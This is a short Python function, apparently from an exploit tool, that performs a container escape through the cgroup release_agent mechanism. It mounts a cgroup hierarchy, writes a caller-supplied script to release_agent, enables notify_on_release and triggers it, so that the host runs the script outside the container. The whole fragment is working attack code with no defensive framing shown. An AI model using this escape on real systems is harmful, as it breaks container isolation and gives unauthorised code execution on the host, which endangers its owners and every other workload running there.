# A hierarchy of our own: what its groups run at their end is run by the host, outside of any container.
def attack(args):
    folder = tempfile.mkdtemp()
    options = f"none,name={args['secret']}".encode()
    call("mount", b"none", folder.encode(), b"cgroup", 0, options)
    try:
        open(f"{folder}/release_agent", "w").write(args["host_script"])
        os.mkdir(f"{folder}/group")
        open(f"{folder}/group/notify_on_release", "w").write("1")
        subprocess.run(["sh", "-c", f"echo $$ > {folder}/group/cgroup.procs"], check=True)
        time.sleep(0.5)
        os.rmdir(f"{folder}/group")
    finally:
        call("umount", folder.encode())
    return "the host was told to run a script"
